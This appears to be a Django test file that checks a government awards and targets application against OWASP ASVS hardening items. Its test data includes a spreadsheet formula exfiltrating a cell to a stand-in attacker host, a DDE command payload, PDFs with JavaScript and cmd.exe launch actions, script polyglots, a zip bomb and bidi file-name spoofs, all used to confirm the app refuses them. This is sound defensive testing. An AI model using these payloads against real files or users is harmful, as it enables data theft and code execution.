"""Hardening (OWASP ASVS L2, issue 17): inert spreadsheet exports, references checked against the actor's scope,
public comments throttled and moderated."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from targets.models import Target

FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Bấm vào đây")'


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_user_text_in_exports_stays_text(officer_client, leader_client):
    target = Target.objects.filter(year=2023).first()
    Target.objects.filter(pk=target.pk).update(statement=FORMULA)
    content = leader_client.get(reverse("targets:dashboard") + "?year=2023&format=xlsx").content
    written = [cell for cell in _cells(content) if cell.value == FORMULA]
    assert written and all(cell.data_type == "s" for cell in written)

    from awards import fund
    from awards.models import FundEntryKind, FundSource

    from ..awards_helpers import users

    fund.record_income(users()["demo_officer"], kind=FundEntryKind.INCOME, source=FundSource.OTHER, amount=1,
                       entered_on=__import__("datetime").date(2026, 2, 1), description="@SUM(1+1)*cmd|' /C calc'!A0")
    cells = _cells(officer_client.get(reverse("awards:fund_excel") + "?year=2026").content)
    assert [c.data_type for c in cells if isinstance(c.value, str) and c.value.startswith("@SUM")] == ["s"]


def test_references_to_another_units_records_are_refused(db):
    """A household or collective nominee of unit B cannot point at unit A's person or unit (API and service); the
    answer is the same as for an id that does not exist."""
    from django.core.exceptions import ValidationError
    from rest_framework.test import APIClient

    from awards import services
    from legal.models import AwardType
    from organisation.models import Unit, User

    from ..awards_helpers import person

    foreign_person, foreign_unit = person("Nguyễn Văn An"), Unit.objects.get(code="so-ke-hoach-dau-tu")
    staff_b = User.objects.get(username="demo_staff_b")
    api = APIClient()
    api.force_authenticate(staff_b)
    unit_b = staff_b.unit
    created = api.post("/api/v1/submissions/", {"unit": unit_b.code, "title": "Đề nghị", "round_kind": "ad_hoc",
                                                "year": 2023, "commendation_type": "ad_hoc"}, format="json")
    assert created.status_code == 201, created.json()
    url = f"/api/v1/submissions/{created.json()['id']}/nominees/"
    household = {"subject": "household", "name": "Hộ ông An", "award_type": "bang-khen-chu-tich-ho-gia-dinh",
                 "achievement_summary": "x"}
    collective = {"subject": "collective", "name": "Phòng KH", "award_type": "bang-khen-chu-tich-tap-the",
                  "achievement_summary": "x"}
    answers = [api.post(url, {**household, "person": foreign_person.pk}, format="json"),
               api.post(url, {**collective, "collective_unit": foreign_unit.pk}, format="json")]
    missing = api.post(url, {**household, "person": 999_999}, format="json")
    assert [a.status_code for a in answers] == [400, 400] and missing.status_code == 400
    assert answers[0].json()["person"] == [m.replace("999999", str(foreign_person.pk))
                                           for m in missing.json()["person"]]
    # The service refuses it too (the pages' forms and any other caller).
    from awards.models import Submission

    submission = Submission.objects.get(pk=created.json()["id"])
    try:
        services.save_nominee(staff_b, submission, subject="household", name="Hộ ông An", person=foreign_person,
                              award_type=AwardType.objects.get(code="bang-khen-chu-tich-ho-gia-dinh"),
                              achievement_summary="x")
    except ValidationError as exc:
        assert "person" in exc.message_dict
    else:
        raise AssertionError("another unit's person was accepted")
    assert not submission.nominees.exists()


def _public_comment_nominee():
    from awards.models import Status

    from ..awards_helpers import draft, to_state, users

    submission = to_state(draft(award="cstd-toan-quoc", names=("Vũ Thị Hạnh",)), Status.APPRAISED)
    from awards import services

    services.open_public_comment(users()["demo_officer"], submission)
    return submission.nominees.get()


def test_public_comments_are_throttled_cleaned_and_moderated(db, officer_client):
    from django.test import Client

    from awards.models import CommentStatus, PublicComment

    nominee = _public_comment_nominee()
    url = reverse("public_comment", args=[nominee.pk])
    citizen = Client(REMOTE_ADDR="198.51.100.7")
    answers = [citizen.post(url, {"author": "Ông\u202e Ba", "content": f"Ý kiến {i}\u200b"}, follow=True)
               for i in range(5)]
    assert PublicComment.objects.count() == 3  # three a day on one nominee from one address
    refused = answers[3].content.decode()
    assert answers[3].status_code == 200 and "đã gửi 3 ý kiến" in refused and "Ý kiến 3" in refused  # input kept
    stored = PublicComment.objects.first()
    assert stored.author == "Ông Ba" and stored.content == "Ý kiến 0" and stored.address == "198.51.100.7"
    # Another address is not held back by the first one.
    Client(REMOTE_ADDR="198.51.100.8").post(url, {"author": "Bà Tư", "content": "Đồng ý"})
    assert PublicComment.objects.count() == 4

    # The Board reads them: new ones first, taken into account or dismissed, with a note.
    page = officer_client.get(reverse("awards:comment_list")).content.decode()
    assert "Ý kiến 0" in page and "Bà Tư" in page
    officer_client.post(reverse("awards:comment_moderate", args=[stored.pk, "dismiss"]), {"note": "Trùng lặp"})
    stored.refresh_from_db()
    assert stored.status == CommentStatus.DISMISSED and stored.moderation_note == "Trùng lặp"
    assert stored.moderated_by.username == "demo_officer"
    assert "Ý kiến 0" not in officer_client.get(reverse("awards:comment_list")).content.decode()
    # Unit staff and anonymous callers cannot moderate.
    staff = Client()
    staff.force_login(__import__("organisation.models", fromlist=["User"]).User.objects.get(username="demo_staff"))
    assert staff.post(reverse("awards:comment_moderate", args=[stored.pk, "accept"])).status_code == 403
    assert staff.get(reverse("awards:comment_list")).status_code == 403


def test_lockout_follows_the_client_address_directly_and_behind_a_proxy(client, db, password, settings):
    from django.test import Client

    login = reverse("login")
    wrong = {"username": "demo_officer", "password": "sai-mat-khau"}
    right = {"username": "demo_officer", "password": password}
    # Directly: X-Forwarded-For is ignored (anyone can send it), the address is REMOTE_ADDR.
    attacker = Client(REMOTE_ADDR="203.0.113.5")
    for forged in range(settings.AXES_FAILURE_LIMIT):
        attacker.post(login, wrong, HTTP_X_FORWARDED_FOR=f"192.0.2.{forged}")
    assert attacker.post(login, right, HTTP_X_FORWARDED_FOR="192.0.2.99").status_code == 429
    # …while the officer, from another address, still signs in: lockout is by user *and* address.
    assert Client(REMOTE_ADDR="203.0.113.9").post(login, right).status_code == 302

    # Behind one reverse proxy every request comes from the proxy's address; the client is in X-Forwarded-For.
    settings.PROXY_COUNT = 1
    proxy = "10.0.0.2"
    behind = Client(REMOTE_ADDR=proxy)
    for _ in range(settings.AXES_FAILURE_LIMIT):
        behind.post(login, {"username": "demo_leader", "password": "x"}, HTTP_X_FORWARDED_FOR="198.51.100.20")
    assert behind.post(login, {"username": "demo_leader", "password": password},
                       HTTP_X_FORWARDED_FOR="198.51.100.20").status_code == 429
    other = Client(REMOTE_ADDR=proxy)
    assert other.post(login, {"username": "demo_leader", "password": password},
                      HTTP_X_FORWARDED_FOR="198.51.100.21").status_code == 302
    # Entries a client forges on the left are never read: the address the proxy appended decides, both ways.
    assert Client(REMOTE_ADDR=proxy).post(login, {"username": "demo_leader", "password": password},
                                          HTTP_X_FORWARDED_FOR="198.51.100.20, 198.51.100.21").status_code == 302
    assert Client(REMOTE_ADDR=proxy).post(login, {"username": "demo_leader", "password": password},
                                          HTTP_X_FORWARDED_FOR="198.51.100.99, 198.51.100.20").status_code == 429


def test_invisible_characters_are_removed_from_names():
    from organisation.text import clean_text

    assert clean_text("rtl\u202egnp.exe") == "rtlgnp.exe"
    assert clean_text(" Nguyễn\u200b Văn\ufeff An ") == "Nguyễn Văn An"


def test_imports_are_bounded_and_report_bad_cells_as_row_errors(officer_client, staff_client, settings):
    """A sheet past the row limit is refused before any work; over-long cells are row errors, not a server error;
    the error list is capped."""
    from targets.models import Actual

    from ..awards_helpers import draft, xlsx
    from ..targets.test_targets import _workbook

    settings.IMPORT_MAX_ROWS = 300
    before = Actual.objects.count()
    huge = _workbook([[2023, "exports", "quý", 1, 1, "Cục Thống kê", ""]] * 301)
    page = officer_client.post(reverse("targets:import"), {"upload": huge}).content.decode()
    assert "hơn 300 dòng" in page and Actual.objects.count() == before
    # 150 wrong rows: 100 shown and one line for the rest.
    wrong = _workbook([[2023, "khong-co", "quý", 1, 1, "x" * 300, ""]] * 150)
    page = officer_client.post(reverse("targets:import"), {"upload": wrong}).content.decode()
    assert "và 50 dòng lỗi khác" in page and "300 ký tự" in page and Actual.objects.count() == before

    submission = draft(names=("Nguyễn Văn An",))
    long_name = xlsx([["Cá nhân", "A" * 5000, "bang-khen-chu-tich", "Hoàn thành xuất sắc", ""]])
    response = staff_client.post(reverse("awards:import_upload", args=[submission.pk]), {"upload": long_name})
    assert response.status_code == 200 and "5000 ký tự" in response.content.decode()
    assert submission.nominees.count() == 1


# --- issue 17, item 9: the rest ----------------------------------------------------------------------------

def test_a_repeated_post_of_an_actual_corrects_the_figure(db):
    from rest_framework.test import APIClient

    from organisation.models import User
    from targets.models import Actual, Target

    target = Target.objects.get(indicator__code="budget-revenue", year=2023)
    client = APIClient()
    client.force_authenticate(User.objects.get(username="demo_officer"))
    body = {"target": target.pk, "period_kind": "month", "period": 3, "value": "9000", "source": "Sở Tài chính"}
    first = client.post("/api/v1/actuals/", body, format="json")
    assert first.status_code == 201, first.content
    again = client.post("/api/v1/actuals/", {**body, "value": "9100.5"}, format="json")
    assert again.status_code in (200, 201), again.content
    assert again.json()["id"] == first.json()["id"]
    actual = Actual.objects.get(target=target, period_kind="month", period=3)
    assert str(actual.value).startswith("9100.5")
    assert actual.history.count() == 2  # the earlier figure stays in the history


def test_the_schema_says_which_fields_may_be_null_as_the_answers_do(db):
    from django.test import Client

    from organisation.models import User

    client = Client()
    client.force_login(User.objects.get(username="demo_officer"))
    import yaml

    schema = yaml.safe_load(client.get("/api/schema/").content)
    unit = schema["components"]["schemas"]["Unit"]["properties"]
    assert unit["parent"].get("nullable") is True
    units = client.get("/api/v1/units/").json()["results"]
    assert any(u["parent"] is None for u in units)


def _upload(name, body, content_type="application/octet-stream"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, body, content_type=content_type)


def _xlsx_bytes(extra_parts=()):
    import io
    import zipfile

    from openpyxl import Workbook

    buffer = io.BytesIO()
    Workbook().save(buffer)
    if extra_parts:
        with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
            for name, data in extra_parts:
                archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize("name,body,code", [
    ("js.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
               b"trailer<</Root 1 0 R>>\n%%EOF\n", "pdf_active"),
    ("escaped.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/J#61vaScript/JS(x)>>>>endobj\n"
                    b"trailer<</Root 1 0 R>>\n%%EOF\n", "pdf_active"),
    ("launch.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n%%EOF\n",
     "pdf_active"),
    ("page.pdf", b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n", "polyglot"),
    ("anh.png", None, "polyglot"),  # a real PNG with HTML after its end
    ("gia.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "bad_image"),
    ("bom.xlsx", None, "zip_bomb"),
])
def test_polyglots_active_pdfs_broken_images_and_zip_bombs_are_refused(name, body, code):
    from django.core.exceptions import ValidationError

    from utilities.uploads import validate_upload

    from ..files import png

    if name == "anh.png":
        body = png().read() + b"<html><script>alert(1)</script></html>"
    if name == "bom.xlsx":
        body = _xlsx_bytes([("xl/media/zeros.bin", b"\x00" * (120 * 1_048_576))])
        assert len(body) < 1_048_576  # 120 MB of zeros stored in well under 1 MB
    with pytest.raises(ValidationError) as refused:
        validate_upload(_upload(name, body))
    assert refused.value.code == code


def test_ordinary_documents_still_pass():
    from utilities.uploads import validate_upload

    from ..files import pdf, png

    assert validate_upload(pdf()) == "pdf"
    assert validate_upload(png()) == "image"
    assert validate_upload(_upload("so-lieu.xlsx", _xlsx_bytes())) == "excel"


def test_an_oversized_request_is_refused_before_its_body_is_read(staff_client, settings):
    from django.urls import reverse

    from ..awards_helpers import draft

    submission = draft()
    response = staff_client.generic("POST", reverse("awards:attachment_add", args=[submission.pk]), b"x" * 100,
                                    content_type="multipart/form-data; boundary=zz",
                                    HTTP_CONTENT_LENGTH="999999999", CONTENT_LENGTH="999999999")
    assert response.status_code == 413
    assert "MB" in response.content.decode()


def test_bidi_controls_are_removed_from_names_and_file_names(staff_client):
    from django.urls import reverse

    from awards.models import Attachment
    from awards.services import add_attachment, save_nominee
    from organisation.models import User

    from ..awards_helpers import draft
    from ..files import pdf

    submission = draft()
    staff = User.objects.get(username="demo_staff")
    upload = pdf("rtl\u202egnp.pdf")
    attachment = add_attachment(staff, submission, kind="council_minutes", upload=upload)
    assert Attachment.objects.get(pk=attachment.pk).original_name == "rtlgnp.pdf"
    nominee = submission.nominees.first()
    save_nominee(staff, submission, nominee=nominee, subject=nominee.subject, name="Nguyễn\u200b Văn\u202e An",
                 award_type=nominee.award_type, achievement_summary="Tốt", person=nominee.person)
    nominee.refresh_from_db()
    assert nominee.name == "Nguyễn Văn An"
    page = staff_client.get(reverse("awards:submission_detail", args=[submission.pk])).content.decode()
    assert "\u202e" not in page
